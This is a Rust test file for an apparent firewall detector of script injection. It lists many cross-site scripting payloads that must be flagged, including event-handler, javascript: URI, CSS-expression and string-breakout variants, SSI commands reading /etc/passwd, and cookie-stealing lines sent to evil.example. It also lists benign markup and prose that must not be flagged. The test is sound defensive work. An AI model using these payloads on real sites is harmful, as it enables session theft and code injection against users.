use crate::detect::check::{finds, is_certain_of, is_linear_in, is_not_certain_of, is_quiet_about};
use crate::seclang::ast::OperatorKind::DetectScript;

#[test]
fn finds_text_a_browser_would_run() {
    is_certain_of(
        DetectScript,
        &[
            "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "hello <script>alert(1)</script> world", "<svg:script>alert(1)</svg:script>", "<script", "<ScRiPt>alert(1)</sCrIpT>",
            "<img src=x onerror=alert(1)>", "<img src=x onerror\t=alert(1)>", "<img src=x onerror = \"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg onload=alert(1)//", "<body onload=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img alt=\"<\" src=x onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<a onmouseover=alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<video><source onerror=\"javascript:alert(1)\">", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<x onclick=alert(1)>click", "<div onpointerover=\"alert(1)\">", "<style onload=alert(1)></style>", "<b/onclick=alert`1`>",
            "<a href=\"javascript:alert(1)\">x</a>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=\"javascript:alert(1)\">", "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">", "<svg><animate attributeName=href values=javascript:alert(1) />", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<applet code=x>", "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<div style=\"width:expression(alert(1))\">", "<div style=\"width:expr/**/ession(alert(1))\">", "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">", "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"wid\\74h:e\\78 pression(alert(1))\">", "<div style=\"behavior:url(x.htc)\">",
            "\" onfocus=alert(1) autofocus x=\"", "' onmouseover='alert(1)", "\"onmouseover=\"alert(1)", "x\" onerror=\"alert(1)", "\" autofocus onfocus=\"alert(1)\" x=\"", "x onmouseover=alert(1)", "onload=alert(1)", "/onmouseover=alert(1)//", "\" style=\"width:expression(alert(1))", "\" href=\"javascript:alert(1)", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "` onerror=alert(1)",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript://%0aalert(1)", "javascript:alert`1`", "[x](javascript:alert(1))", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "javascript:eval('1')", "![x](javascript:prompt(1))",
            "';alert(1)//", "\";alert(1)//", "'-alert(1)-'", "\"-alert(1)-\"", "'+alert(1)+'", "\\';alert(1)//", "'};alert(1);//", "');alert(1);//", "'||alert(1)||'", "';document.location='https://evil.example/'+document.cookie//", "\"+eval(name)+\"", "';window.location='//evil.example';//", "'*alert(1)*'", "';fetch('//evil.example')//", "`;alert(1)//", "'-(alert)(1)-'", "'-top['alert'](1)-'",
            "<!--#exec cmd=\"id\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "${alert(1)}", "eval(atob('YWxlcnQoMSk='))", "alert(document.cookie)", "alert`1`", "<a href=# onclick=\"fetch('//x')\">", "<img src=1 oNeRrOr=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<\0script>alert(1)</script>",
        ],
    );
    finds(DetectScript, &["alert(1)", "<form action=\"https://example.com\">", "<object data=\"movie.swf\">", "document.cookie", "List<Script>"]);
}

#[test]
fn leaves_markup_of_editors_code_and_prose_alone() {
    is_quiet_about(
        DetectScript,
        &[
            "<b>bold</b>", "<p style=\"color:red\">x</p>", "<a href=\"https://example.com\" title=\"on click\">x</a>", "<a href=\"/page?online=1\">x</a>", "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"x\">", "<iframe src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>", "<svg width=\"24\" height=\"24\"><path d=\"M0 0h24v24H0z\"/></svg>", "<input type=\"text\" name=\"only\">", "<p one=\"1\">", "<span data-on=\"1\">", "<div class=\"onboarding\">", "<video controls src=\"a.mp4\"></video>", "<style>p { color: red }</style>", "<br />", "<hr>", "<!-- comment -->", "<!--[if IE]><p>x</p><![endif]-->", "<code>&lt;script&gt;</code>", "<font color=red>", "<ol><li>a</ol>", "<blockquote cite=\"https://example.com\">x</blockquote>",
            "if (a<b && c>d)", "x<y", "i<script.length", "Map<String, List<Integer>>", "<T extends Foo>", "Promise<void>", "vector<int> v;", "#include <stdio.h>", "<john@example.org>", "<https://example.com>", "cat < file > out", "1<2>3", "<<EOF", "<-- here", "<script.js", "JavaScript: The Good Parts", "JavaScript: The Definitive Guide (7th edition)", "Javascript:", "script: act one", "manuscript: (draft)", "TypeScript: 5", "the onclick handler", "onclick", "on = 1", "only=1", "once=2", "onset=3", "one=1&online=2", "on error = stop",
            "say 'hello' + 'world'", "f('a', 'b')", "x = 'a' + b + 'c'", "it's; alert me", "it's-me", "'quoted' (text)", "console.log('x');", "\"a\" + \"b\"", "don't prompt (me)", "it's location, location, location", "'top' (of the list)", "document the cookie", "red alert (again)", "alert: system down", "data:text/plain,hello", "font-family:'Open Sans'; color:red", "width:calc(1px + 2px)", "expression of interest", "a:expression", "{\"on\":\"click\"}", "name='x' value='y'", "class=\"a\" id=\"b\"", "\"quoted\" on = off",
        ]
        .iter().copied().filter(|value| *value != "i<script.length").collect::<Vec<_>>(),
    );
    is_not_certain_of(DetectScript, &["List<Script> scripts;", "function f() { alert(1); }", "console.log('x'); alert('y');", "var c = document.cookie;", "el.innerHTML = 'x'; el.onclick = function () { alert(1) };"]);
}

#[test]
fn takes_linear_time() {
    is_linear_in(DetectScript, &["<", "<a ", "<a b=\"", "<a b='<a b='", "\"", "\" on", "'+", "<img src=x ", "javascript:", "<!--#", "[]", "x=", "<a style=\"", "<a href=&#", "onerror", "`", "<a/", "\" a=b", "\" style=\"\\"]);
}
